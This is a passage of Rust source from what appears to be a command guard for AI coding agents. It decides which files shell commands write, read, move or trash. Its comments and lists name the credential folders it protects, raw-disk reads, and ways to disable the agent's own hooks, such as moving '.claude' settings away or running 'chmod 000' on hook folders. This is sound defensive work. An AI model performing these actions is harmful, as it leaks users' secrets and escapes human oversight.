        command.span,
        format!("`sysctl` would change {what} for the whole system"),
    );
}

/// A raw disk copied or shown byte for byte (`dd if=/dev/sda`, `cat /dev/sda`): every file on
/// it comes along, whoever may read it. Tools that read a disk for what they are asked
/// (`debugfs -R stats`) are judged by what they are asked.
fn read_raw_disk(subject: &Subject, report: &mut Report, word: &Word) {
    if let Target::Path(path) = paths::resolve(word, &subject.command.cwd)
        && files::raw_disk(&path)
    {
        report.flag(
            &READ_CREDENTIALS,
            word.span,
            format!(
                "reading the raw disk {path} would copy every file on it, whoever may read it: keys, password hashes and all"
            ),
        );
    }
}

fn write(subject: &Subject, report: &mut Report, word: &Word, kind: WriteKind) {
    write_unless(subject, report, word, kind, &|_| false);
}

/// [`write`], but of the files a glob or a search may be, not those `settled` says stay as
/// they are.
fn write_unless(
    subject: &Subject,
    report: &mut Report,
    word: &Word,
    kind: WriteKind,
    settled: &dyn Fn(&AbsPath) -> bool,
) {
    let last = if subject.command.name == "ln" || kind == WriteKind::MoveAway {
        Last::Keep
    } else {
        Last::Follow
    };
    let judge = |report: &mut Report, path: &AbsPath| {
        judge_write_through(
            path,
            subject.typed(word),
            word.span,
            kind,
            last,
            subject.context,
            report,
        );
    };
    let targets = judged_targets(subject, word);
    for target in &targets {
        match target {
            Target::Path(path) => judge(report, path),
            _ if kind == WriteKind::MoveAway => {
                moved_agent_settings(subject, report, word, target, "moving", "away");
            }
            _ => {}
        }
    }
    // A glob, or paths a search prints: each file it may be is written (`>> ~/.bashr?`,
    // `cp x "$(find ~/.claude -name settings.json)"`).
    if let Some(target) = targets.first().filter(|target| !matches!(target, Target::Path(_))) {
        for path in globbed::written_places(word, target, &subject.command.cwd, subject.context) {
            if !settled(&path) {
                judge(report, &path);
            }
        }
    }
}

/// Agent settings taken from where the agent reads them with the files `target` names (moved,
/// or put in the trash): the settings file, a folder holding it, or what a glob picks (`mv
/// .claude/* /tmp/`, which bash expands where it runs; folders only when it ends in `/`).
fn moved_agent_settings(
    subject: &Subject,
    report: &mut Report,
    word: &Word,
    target: &Target,
    verb: &str,
    whither: &str,
) {
    let folders_only = word.has_glob() && word.text().ends_with('/');
    if let Some(what) = files::agent_settings_taken(target, true, folders_only, subject.context) {
        report.flag(
            &WRITE_AGENT_SETTINGS,
            word.span,
            format!(
                "{verb} `{}` {whither} would take {what} with it, which could switch off the guards on this agent",
                subject.typed(word)
            ),
        );
    }
}

/// The files a command puts in the trash: the operands of `trash`, `trash-put`, `rmtrash`,
/// `gtrash put` and `gio trash` (not when it lists, empties or restores it), and the sources of
/// `kioclient move` (into `trash:/` or anywhere else).
fn trashed(command: &Command) -> Vec<Word> {
    let args = command.args();
    let operands = |args: &[Word], valued: &'static [&'static str]| -> Vec<Word> {
        args::parse(args, &Options::gnu("", valued))
            .operands()
            .cloned()
            .collect()
    };
    let first = args.first().and_then(Word::value);
    match command.name.as_str() {
        "trash" | "trash-put" | "rmtrash" => operands(args, &["trash-dir"]),
        "gtrash" if first == Some("put") => operands(&args[1..], &[]),
        "gio" if first == Some("trash") => {
            let words = &args[1..];
            let keeps = words
                .iter()
                .any(|word| matches!(word.value(), Some("--list" | "--empty" | "--restore")));
            if keeps { Vec::new() } else { operands(words, &[]) }
        }
        "kioclient" | "kioclient5" | "kioclient6" => {
            let Some(at) = args.iter().position(|word| matches!(word.value(), Some("move" | "mv"))) else {
                return Vec::new();
            };
            let moved = operands(&args[at + 1..], &[]);
            moved[..moved.len().saturating_sub(1)].to_vec()
        }
        _ => Vec::new(),
    }
}

/// How the files [`written`] names are changed: in place by the editors and `truncate`, added
/// to by `tee -a`, else made anew.
fn written_kind(command: &Command) -> WriteKind {
    match command.name.as_str() {
        "sed" | "perl" | "ruby" | "truncate" | "fallocate" | "ex" | "vi" | "vim" | "nvim" | "gawk" | "awk"
        | "patch" | "sd" | "emacs" => WriteKind::InPlace,
        // `conv=notrunc` writes into the file as it is, the rest of it kept.
        "dd" if command.args().iter().any(|word| {
            word.text()
                .strip_prefix("conv=")
                .is_some_and(|conv| conv.split(',').any(|c| c == "notrunc"))
        }) =>
        {
            WriteKind::InPlace
        }
        "tee" if args::parse(command.args(), &long_options::TEE).has('a', "append") => WriteKind::Append,
        _ => WriteKind::Create,
    }
}

/// Judges a change of `path`'s owner or mode (given as `word`) as a change of the file in place.
fn judge_change(subject: &Subject, report: &mut Report, word: &Word, path: &AbsPath) {
    let shown = shown(subject.typed(word), path);
    judge_write_at(path, &shown, word.span, WriteKind::InPlace, subject.context, report);
}

/// Calls `judge` with the path `word` names and, when a link on its way leads elsewhere, with
/// the place it leads to (in the real folders' context): `chmod`, `chown` and the like change
/// what a link points at.
fn through_links(subject: &Subject, report: &mut Report, word: &Word, judge: impl Fn(&Subject, &mut Report, &AbsPath)) {
    for target in judged_targets(subject, word) {
        let Target::Path(path) = target else { continue };
        judge(subject, report, &path);
        if let Some((real, context)) = links::resolved(&path, Last::Follow, subject.context) {
            let through = Subject {
                context: &context,
                ..*subject
            };
            judge(&through, report, &real);
        }
    }
}

/// Changing a protected file's owner, access list or attributes (`chown`, `setfacl`, `chattr`)
/// is judged as a write of it; of any other file it changes nothing anybody relies on. A file
/// of the home given to the account itself (`to_self`) is left as it should be.
fn change_ownership(subject: &Subject, report: &mut Report, word: &Word, to_self: bool) {
    through_links(subject, report, word, |subject, report, path| {
        let own_file = to_self && path.is_inside(&subject.context.home);
        if !own_file && is_protected(&files::write_class(path, subject.context)) {
            judge_change(subject, report, word, path);
        }
    });
}

/// `chmod` of a protected file is judged as a write of it unless it only takes access away
/// from the group and others: opening it up, or taking the owner's reading and writing away (or,
/// from an agent's hook script or this guard's binary, running: `chmod -x`, `chmod 600`), is a
/// change as real as rewriting it.
fn change_mode(subject: &Subject, report: &mut Report, word: &Word, mode: modes::Mode, recursive: bool) {
    through_links(subject, report, word, |subject, report, path| {
        change_mode_at(subject, report, word, path, mode, recursive);
    });
}

/// [`change_mode`] of the place `path` names.
fn change_mode_at(
    subject: &Subject,
    report: &mut Report,
    word: &Word,
    path: &AbsPath,
    mode: modes::Mode,
    recursive: bool,
) {
    let context = subject.context;
    // The folders the guard and the agents' hooks live in: taking their owner's access away
    // stops the hook from running (`chmod 000 ~/.cargo/bin`, `chmod 000 .claude`).
    let guard_folder = context
        .guard_binary
        .as_ref()
        .is_some_and(|binary| binary.is_inside(path))
        || path.name().is_some_and(|name| AGENT_FOLDERS.contains(&name))
        || context.home.starts_with(path);
    let class = files::write_class(path, context);
    if !guard_folder && !is_protected(&class) {
        return;
    }
    // A folder is entered through its owner's `x`: for a folder, and for a hook script or the
    // guard's binary, every owner bit counts; for a key or a settings file, reading and writing.
    let folder = guard_folder || recursive || is_folder(path, context);
    let data_file = path
        .name()
        .is_some_and(|name| name.ends_with(".json") || name.ends_with(".toml"));
    let owner_bits = match class {
        _ if folder => 0o700,
        WriteClass::AgentSettings(_) if !data_file => 0o700,
        _ => 0o600,
    };
    if guard_folder && !is_protected(&class) {
        // Opening such a folder up (`chmod 755 ~`) stops nothing; taking the owner's way in does.
        if !mode.takes_from_owner(0o700) {
            return;
        }
        report.flag(
            &WRITE_AGENT_SETTINGS,
            word.span,
            format!(
                "`chmod` of `{}` ({path}) would take its owner's access away, and the guard or the agent's hooks live there: the hook could not run",
                subject.typed(word)
            ),
        );
    } else {
        // A hook script is not secret, nor is a file whose reading passes (`~/.ssh/config`,
        // `known_hosts`, a public key, `~/.bashrc`): letting others read or run it (`chmod 644`,
        // `chmod +x`) opens up nothing, letting them change it does.
        let hook_script = matches!(class, WriteClass::AgentSettings(_)) && !data_file && !folder;
        let readable = !folder && files::secret(path, context).is_none();
        let opens_up = if hook_script || readable {
            mode.lets_others_change()
        } else {
            mode.opens_up()
        };
        if opens_up || mode.takes_from_owner(owner_bits) {
            judge_change(subject, report, word, path);
        }
    }
}

/// Whether `path` is a folder: on disk when it is there, or else by its name, as the hidden
/// folders of home that hold keys and settings are named (`~/.ssh`, `~/.aws`, `.claude`); other
/// hidden names are files (`~/.netrc`, `~/.pgpass`, `~/.bashrc`).
fn is_folder(path: &AbsPath, context: &Context) -> bool {
    let native = crate::context::native(path);
    let on_disk = std::path::Path::new(&native);
    if context.read_scripts && on_disk.exists() {
        return on_disk.is_dir();
    }
    path.name()
        .is_some_and(|name| AGENT_FOLDERS.contains(&name) || HIDDEN_FOLDERS.contains(&name))
}

/// Hidden folders of home that hold keys, credentials and settings.
const HIDDEN_FOLDERS: &[&str] = &[
    ".ssh",
    ".gnupg",
    ".aws",
    ".azure",
    ".kube",
    ".docker",
    ".password-store",
    ".oci",
    ".config",
    ".local",
    ".cargo",
    ".gem",
    ".fly",
    ".netlify",
    ".vercel",
    ".wrangler",
    ".circleci",
    ".ngrok2",
    ".terraform.d",
    ".aliyun",
    ".git",
    ".husky",
    ".vscode",
];

/// The agents' own folders, where their settings and hooks are.
const AGENT_FOLDERS: &[&str] = &[
    ".claude",
    ".codex",
    ".gemini",
    ".cursor",
    ".copilot",
    ".factory",
    ".windsurf",
    ".opencode",
    ".clinerules",
    ".cline",
];

/// Whether a file of this class is one whose permissions others rely on.
fn is_protected(class: &WriteClass) -> bool {
    !matches!(
        class,
        WriteClass::Ordinary
            | WriteClass::OutsideProject
            | WriteClass::PythonStartup
            | WriteClass::EnvFile(_)
            | WriteClass::CiConfig
            | WriteClass::ProjectPolicy
            | WriteClass::StartsPrograms(_)
    )
}

fn read(subject: &Subject, report: &mut Report, word: &Word) {
    for target in judged_targets(subject, word) {
        match target {
            Target::Path(path) => judge_read(&path, subject.typed(word), word.span, subject.context, report),
            // A pattern into a folder of keys (`~/.ssh/*`, `~/.aws/cred*`) reads what it holds;
            // one only public keys match (`~/.ssh/*.pub`) does not. Into a folder that is no
            // store itself, it reads the stores among the entries it matches (a browser
            // profile's `Login Data`).
            Target::Below { dir, name, deep } => read_entries(subject, report, word, &dir, name.as_deref(), deep),
            Target::Contents(dir) => read_entries(subject, report, word, &dir, None, false),
            // A credential file named by the variable its tool reads (`cat "$KUBECONFIG"`).
            _ => {
                if let Some(what) = files::secret_file_variable(word) {
                    report.flag(
                        &READ_CREDENTIALS,
                        word.span,
                        format!("reading {what} would put them into the conversation, where they can leak"),
                    );
                }
            }
        }
    }
}

/// A read of the entries of `dir` that `name` matches (all with `None`), at any depth with `deep`.
fn read_entries(subject: &Subject, report: &mut Report, word: &Word, dir: &AbsPath, name: Option<&str>, deep: bool) {
    if let Some(path) = files::secret_entries(dir, name, deep, subject.context) {
        judge_read(&path, subject.typed(word), word.span, subject.context, report);
    }
}

/// The places `word` names: as written, and, when a `..` in it goes up from a link, where the
/// kernel goes (`ssh/../.bashrc` with `ssh` a link to `~/.ssh` is `~/.bashrc`).
fn judged_targets(subject: &Subject, word: &Word) -> Vec<Target> {
    let cwd = &subject.command.cwd;
    std::iter::once(paths::resolve(word, cwd))
        .chain(links::physical_target(word, cwd, subject.context))
        .collect()
}

/// The programs [`written`] knows.
pub const WRITERS: &[&str] = &[
    "tee",
    "cp",
    "mv",
    "install",
    "ln",
    "rsync",
    "scp",
    "dd",
    "sed",
    "perl",
    "ruby",
    "truncate",
    "curl",
    "wget",
    "aria2c",
    "sponge",
    "ex",
    "vi",
    "vim",
    "nvim",
    "fallocate",
    "gawk",
    "awk",
    "patch",
];

/// The files a command writes besides its redirections.
pub(crate) fn written(command: &Command) -> Vec<Word> {
    let args = command.args();
    let operands = |options: &Options| -> Vec<Word> { args::parse(args, options).operands().cloned().collect() };
    match command.name.as_str() {
        "tee" => operands(&long_options::TEE),
        "cp" | "mv" | "install" | "ln" | "rsync" | "scp" => destination(command),
        "dd" => args
            .iter()
            .filter(|w| w.text().starts_with("of="))
            .map(|w| w.strip_prefix(3))
            .collect(),
        "sed" => in_place(args, &long_options::SED, "in-place"),
        "perl" => in_place(args, &Options::gnu("eEIMmx", &[]), "in-place"),
        "ruby" => in_place(args, &Options::gnu("eIrCEF", &[]), "in-place"),
        // `… | sponge FILE` soaks up its input, then replaces FILE with it.
        "sponge" => operands(&Options::gnu("", &[])),
        // Punching, collapsing or zeroing a range changes the file's data in place.
        "fallocate" => {
            let parsed = args::parse(args, &long_options::FALLOCATE);
            let destroys = parsed.has('p', "punch-hole")
                || parsed.has('c', "collapse-range")
                || parsed.has('z', "zero-range")
                || parsed.has('i', "insert-range");
            if destroys {
                parsed.operands().cloned().collect()
            } else {
                Vec::new()
            }
        }
        "ex" | "vi" | "vim" | "nvim" => editor_batch_writes(args),
        "gawk" | "awk" => awk_in_place(args),
        // `patch FILE [PATCHFILE]` changes FILE, unless `-o OUT` writes the result there, or
        // `--dry-run` nothing; `-d DIR` patches in DIR: FILE there, or the files the patch names
        // (`patch -p1 -d ~ < x.patch`), which stand as DIR itself.
        "patch" => {
            let parsed = args::parse(args, &long_options::PATCH);
            let folder = parsed.value_of('d', "directory");
            let in_folder = |file: &Word| match folder {
                Some(folder) if !file.text().starts_with(['/', '~']) => Word::literal(
                    &format!("{}/{}", folder.text().trim_end_matches('/'), file.text()),
                    file.span,
                ),
                _ => file.clone(),
            };
            match parsed.value_of('o', "output") {
                _ if parsed.has_long("dry-run") => Vec::new(),
                Some(output) => vec![in_folder(output)],
                None => match (parsed.operands().next(), folder) {
                    (Some(file), _) => vec![in_folder(file)],
                    (None, Some(folder)) => vec![folder.clone()],
                    (None, None) => Vec::new(),
                },
            }
        }
        "truncate" => operands(&long_options::TRUNCATE),
        // `sd FIND REPLACE FILE…` rewrites each FILE in place, unless `-p` only shows the change.
        "sd" => {
            let parsed = args::parse(args, &Options::gnu("nf", &["max-replacements", "flags"]));
            if parsed.has('p', "preview") {
                Vec::new()
            } else {
                parsed.operands().skip(2).cloned().collect()
            }
        }
        "emacs" => emacs_batch_writes(args),
        "curl" => {
            let parsed = args::parse(args, &long_options::CURL);
            // `--output` is an option of its own, not short for `--output-dir`.
            let directory = parsed
                .args
                .iter()
                .rev()
                .find(|arg| arg.is_long("output-dir") && !arg.is_long("output"))
                .and_then(|arg| arg.value())
                .filter(|directory| !directory.text().is_empty())
                .cloned();
            let in_directory = |name: &Word| match &directory {
                Some(directory) => Word::literal(
                    &format!("{}/{}", directory.text().trim_end_matches('/'), name.text()),
                    name.span,
                ),
                None => name.clone(),
            };
            let mut written: Vec<Word> = parsed
                .args
                .iter()
                .filter(|arg| arg.is_short('o') || arg.is_long("output"))
                .filter_map(|arg| arg.value())
                .filter(|w| !w.is("-"))
                .map(in_directory)
                .collect();
            // `-O`: each URL's last part, in the output directory.
            if parsed.has_short('O') || parsed.has_long("remote-name") || parsed.has_long("remote-name-all") {
                written.extend(
                    parsed
                        .operands()
                        .filter_map(url_file_name)
                        .map(|name| in_directory(&name)),
                );
            }
            // Files curl writes besides the download: cookies, headers, traces.
            let side_files = [
                ('c', "cookie-jar"),
                ('D', "dump-header"),
                ('\0', "trace"),
                ('\0', "trace-ascii"),
                ('\0', "stderr"),
            ];
            for (short, long) in side_files {
                written.extend(parsed.value_of(short, long).filter(|w| !w.is("-")).cloned());
            }
            for long in ["libcurl", "etag-save", "hsts", "alt-svc"] {
                written.extend(parsed.value_of('\0', long).cloned());
            }
            written
        }
        // `aria2c -d DIR -o NAME` saves the download as DIR/NAME.
        "aria2c" => {
            let parsed = args::parse(args, &Options::gnu("doixsjk", &["dir", "out", "input-file", "log"]));
            let directory = parsed.value_of('d', "dir");
            let mut written: Vec<Word> = parsed
                .value_of('o', "out")
                .map(|name| match directory {
                    Some(directory) => Word::literal(
                        &format!("{}/{}", directory.text().trim_end_matches('/'), name.text()),
                        name.span,
                    ),
                    None => name.clone(),
                })
                .into_iter()
                .collect();
            written.extend(parsed.value_of('l', "log").filter(|w| !w.is("-")).cloned());
            written
        }
        "wget" => {
            let parsed = args::parse(args, &long_options::WGET);
            let mut written: Vec<Word> = parsed
                .value_of('O', "output-document")
                .filter(|w| !w.is("-"))
                .into_iter()
                .cloned()
                .collect();
            // Its log (`-o`, `-a`), and without `-O` each URL's last part, in `-P DIR`.
            written.extend(parsed.value_of('o', "output-file").cloned());
            written.extend(parsed.value_of('a', "append-output").cloned());
            written.extend(parsed.value_of('\0', "save-cookies").cloned());
            if parsed.value_of('O', "output-document").is_none() {
                let directory = parsed.value_of('P', "directory-prefix");
                written.extend(parsed.operands().filter_map(url_file_name).map(|name| match directory {
                    Some(directory) => Word::literal(
                        &format!("{}/{}", directory.text().trim_end_matches('/'), name.text()),
                        name.span,
                    ),
                    None => name,
                }));
            }
            written
        }
        _ => Vec::new(),
    }
}

/// The file a download of `url` is saved as by its name (`curl -O`, `wget`): the URL's last
/// path part, when it has one.
fn url_file_name(url: &Word) -> Option<Word> {
    let text = url.text();
    let rest = text.split_once("://")?.1;
    let path = rest.split(['?', '#']).next()?;
    let (_, name) = path
        .split_once('/')
        .map(|(_, path)| path.rsplit_once('/').map_or(("", path), |(a, b)| (a, b)))?;
    (!name.is_empty()).then(|| Word::literal(name, url.span))
}

/// The options of `cp`, `mv`, `install`, `ln` or `rsync`, each its own: `cp --t DIR` is
/// `--target-directory`, and `-T` (no target directory) takes no value.
fn copy_options(program: &str) -> Options {
    match program {
        "mv" => long_options::MV,
        "install" => long_options::INSTALL,
        "ln" => long_options::LN,
        "rsync" => long_options::RSYNC,
        _ => long_options::CP,
    }
}

/// The destination of `cp`, `mv`, `install`, `ln`, `rsync`.
fn destination(command: &Command) -> Vec<Word> {
    let parsed = args::parse(command.args(), &copy_options(&command.name));
    if command.name == "scp" {
        // `scp host:FILE LOCAL` writes LOCAL; a `host:path` destination is no local file.
        let parsed = args::parse(command.args(), &Options::gnu("cFiJloPS", &[]));
        let operands: Vec<&Word> = parsed.operands().collect();
        return match operands.as_slice() {
            [_, .., last] if !last.text().contains(':') => vec![(*last).clone()],
            _ => Vec::new(),
        };
    }
    if command.name == "rsync" {
        // A dry run (`-n`) or a listing writes nothing.
        if parsed.has('n', "dry-run") || parsed.has_long("list-only") {
            return Vec::new();
        }
        let operands: Vec<&Word> = parsed.operands().collect();
        return match operands.as_slice() {
            [_, .., last] if !last.text().contains(':') => vec![(*last).clone()],
            _ => Vec::new(),
        };
    }
    let operands: Vec<&Word> = parsed.operands().collect();
    let mut targets: Vec<Word> = Vec::new();
    match parsed.value_of('t', "target-directory") {
        Some(directory) => targets.push(directory.clone()),
        None if command.name == "install" && parsed.has('d', "directory") => {
            targets.extend(operands.iter().map(|w| (*w).clone()))
        }
        None if operands.len() >= 2 => targets.push(operands[operands.len() - 1].clone()),
        None => {}
    }
    targets
}

/// The files written when `cp`, `mv`, `install` or `ln` put their sources into a folder: each
/// source's name in it (`cp .envrc ../other/` writes `../other/.envrc`), not the folder itself.
/// The destination is a folder when it ends in `/`, is named by `-t`, receives several sources,
/// or (when the disk may be read) is one.
fn into_folder(subject: &Subject, written: Vec<Word>) -> Vec<Word> {
    let command = subject.command;
    if !matches!(command.name.as_str(), "cp" | "mv" | "install" | "ln") || written.len() != 1 {
        return written;
    }
    let parsed = args::parse(command.args(), &copy_options(&command.name));
    if command.name == "install" && parsed.has('d', "directory") {
        return written;
    }
    // `-T`: the destination is the copy itself, the sources' contents merged into it (`cp -rT
    // dotfiles ~` puts dotfiles/.bashrc at ~/.bashrc).
    if parsed.has('T', "no-target-directory") {
        return written;
    }
    let by_option = parsed.value_of('t', "target-directory").is_some();
    let sources = sources_of(command);
    let folder = &written[0];
    let on_disk = || {
        subject.context.read_scripts
            && matches!(paths::resolve(folder, &command.cwd), Target::Path(path) if std::path::Path::new(&crate::context::native(&path)).is_dir())
    };
    let is_folder = by_option || folder.text().ends_with('/') || sources.len() > 1 || on_disk();
    if !is_folder || sources.is_empty() {
        return written;
    }
    sources
        .iter()
        .map(|source| {
            let name = source
                .text()
                .trim_end_matches('/')
                .rsplit('/')
                .next()
                .unwrap_or_default();
            Word::literal(&format!("{}/{name}", folder.text().trim_end_matches('/')), folder.span)
        })
        .collect()
}

/// The sources of `cp`, `mv`, `install` or `ln`: every operand but the destination (all of
/// them with `-t DIR`).
fn sources_of(command: &Command) -> Vec<Word> {
    let parsed = args::parse(command.args(), &copy_options(&command.name));
    let operands: Vec<&Word> = parsed.operands().collect();
    let sources = if parsed.value_of('t', "target-directory").is_some() {
        &operands[..]
    } else {
        &operands[..operands.len().saturating_sub(1)]
    };
    sources.iter().map(|w| (*w).clone()).collect()
}

/// The local files a command takes away from where they are: every operand of `mv` but the
/// destination, the sources `rsync --remove-source-files` deletes once copied, the source of
/// `rclone move`. A source on another machine is the remote-deletion checks' to judge.
pub(super) fn moved_away(command: &Command) -> Vec<Word> {
    match command.name.as_str() {
        "mv" => sources_of(command),
        "rsync" => super::rsync::moved_away(command),
        "rclone" => super::backups::rclone_moved_away(command),
        _ => Vec::new(),
    }
}

/// The files an editor run in batch writes: its file operands, when a command given with `-c`
/// or `+` saves (`ex -sc '%d|x' FILE`, `vim -es -c 'wq' FILE`).
fn editor_batch_writes(args: &[Word]) -> Vec<Word> {
    static SAVES: std::sync::LazyLock<regex::Regex> = std::sync::LazyLock::new(|| {
        regex::Regex::new(
            r"(?:^|[|:\s])(?:w|wq|wqa|wqall|x|xa|xall|xit|write|wa|wall|up|update|sav|saveas|exi|exit)!?(?:\s|$|\|)",
        )
        .expect("the editor pattern is valid")
    });
    let mut commands = Vec::new();
    let mut files = Vec::new();
    let mut words = args.iter();
    while let Some(word) = words.next() {
        let text = word.text();
        if matches!(text, "-c" | "--cmd") || text.starts_with("-") && text.ends_with('c') && !text.starts_with("--") {
            commands.extend(words.next().map(|w| w.text().to_owned()));
        } else if let Some(command) = text.strip_prefix('+') {
            commands.push(command.to_owned());
        } else if matches!(
            text,
            "-S" | "-s" | "-u" | "-U" | "-i" | "-T" | "-w" | "-W" | "-t" | "-q"
        ) {
            // `-s` alone is ex's silent mode; the others take a file or value (a script read
            // from a file is not followed here).
            if text != "-s" {
                words.next();
            }
        } else if !text.starts_with('-') {
            files.push(word.clone());
        }
    }
    if commands.iter().any(|command| SAVES.is_match(command.trim())) {
        files
    } else {
        Vec::new()
    }
}

/// The files emacs run in batch saves: its file operands, visited in turn, when the code given
/// by `--eval` or `-f` saves a buffer (`emacs --batch F --eval '(progn (erase-buffer)
/// (save-buffer))'`, `emacs --batch F -f save-buffer`).
fn emacs_batch_writes(args: &[Word]) -> Vec<Word> {
    static SAVES: std::sync::LazyLock<regex::Regex> = std::sync::LazyLock::new(|| {
        regex::Regex::new(r"(?:^|[\s(])(?:basic-)?(?:save-buffer|save-some-buffers|write-file)(?:[\s)]|$)")
            .expect("the emacs pattern is valid")
    });
    let options = Options::gnu(
        "lfLetdu",
        &[
            "eval",
            "execute",
            "load",
            "funcall",
            "directory",
            "insert",
            "chdir",
            "user",
            "terminal",
            "display",
            "script",
        ],
    )
    .single_dash(&[
        "batch",
        "script=",
        "eval=",
        "execute=",
        "funcall=",
        "load=",
        "insert=",
        "directory=",
    ]);
    let parsed = args::parse(args, &options);
    let batch = parsed.has_long("batch") || parsed.has_long("script");
    let code: Vec<&str> = parsed
        .args
        .iter()
        .filter(|arg| {
            ["eval", "execute", "funcall"].iter().any(|long| arg.is_long(long))
                || arg.is_short('f')
                || arg.is_short('e')
        })
        .filter_map(|arg| arg.value())
        .map(Word::text)
        .collect();
    if !batch || !code.iter().any(|code| SAVES.is_match(code)) {
        return Vec::new();
    }
    parsed
        .operands()
        .filter(|operand| !operand.text().starts_with('+'))
        .cloned()
        .collect()
}

fn in_place(args: &[Word], options: &Options, long: &str) -> Vec<Word> {
    let parsed = args::parse(args, options);
    if !parsed.has('i', long) {
        return Vec::new();
    }
    let script_given = parsed.args.iter().any(|arg| {
        arg.is_short('e') || arg.is_short('f') || arg.is_short('E') || arg.is_long("expression") || arg.is_long("file")
    });
    // BSD and macOS sed take the backup suffix as its own word (`sed -i '' -e …`): an empty word
    // is that suffix, never a file.
    parsed
        .operands()
        .filter(|operand| !operand.value().is_some_and(str::is_empty))
        .skip(usize::from(!script_given))
        .cloned()
        .collect()
}

/// The files gawk's `inplace` extension rewrites (`gawk -i inplace '{…}' FILE…`): every file
/// operand, after the program unless an option gave it (`-f`, `-e`, `-E`); `var=value`
/// operands are assignments.
fn awk_in_place(args: &[Word]) -> Vec<Word> {
    let parsed = args::parse(args, &long_options::AWK);
    let in_place = parsed.args.iter().any(|arg| {
        (arg.is_short('i') || arg.is_long("include"))
            && arg
                .value()
                .is_some_and(|value| matches!(value.text(), "inplace" | "inplace.awk"))
    });
    if !in_place {
        return Vec::new();
    }
    let (_, inputs) = long_options::awk_operands(&parsed);
    inputs
        .into_iter()
        .filter(|operand| !operand.text().contains('='))
        .cloned()
        .collect()
}

/// The files `chown` and `chgrp` change, whose access lists `setfacl` and `chacl` set, and whose
/// attributes `chattr` sets (`chattr +i`, `-i`: its mode words look like options).
/// `chown "$USER" FILE` (also `$USER:`, `$(whoami):$(id -gn)`, the account's own name): the
/// files are given to the account that runs the command, which is whom they belong to already
/// or whom the user means them to.
fn owned_by_self(command: &Command, context: &Context) -> bool {
    if command.name != "chown" {
        return false;
    }
    let parsed = args::parse(command.args(), &long_options::CHOWN);
    if parsed.has_long("reference") {
        return false;
    }
    let Some(owner) = parsed.operands().next() else {
        return false;
    };
    let text = owner.text().replace('"', "");
    let (user, group) = text.split_once([':', '.']).unwrap_or((&text, ""));
    let account = context.account_name();
    let is_self = |name: &str| {
        matches!(
            name,
            "$USER" | "${USER}" | "$LOGNAME" | "${LOGNAME}" | "$(whoami)" | "$(id -un)" | "`whoami`"
        ) || account == Some(name)
    };
    is_self(user) && (group.is_empty() || is_self(group) || matches!(group, "$(id -gn)" | "staff"))
}

fn ownership_targets(command: &Command) -> Vec<Word> {
    let args = command.args();
    match command.name.as_str() {
        "setfacl" => {
            let options = Options::gnu(
                "mxMX",
                &["modify", "remove", "set", "modify-file", "remove-file", "set-file"],
            );
            args::parse(args, &options).operands().cloned().collect()
        }
        "chacl" => args::parse(args, &Options::gnu("", &[]))
            .operands()
            .skip(1)
            .cloned()
            .collect(),
        "chattr" => args
            .iter()
            .filter(|word| !word.text().starts_with(['+', '-', '=']))
            .cloned()
            .collect(),
        _ => {
            let options = if command.name == "chgrp" {
                long_options::CHGRP
            } else {
                long_options::CHOWN
            };
            let parsed = args::parse(args, &options);
            let mut operands = parsed.operands();
            if !parsed.has_long("reference") {
                operands.next();
            }
            operands.cloned().collect()
        }
    }
}
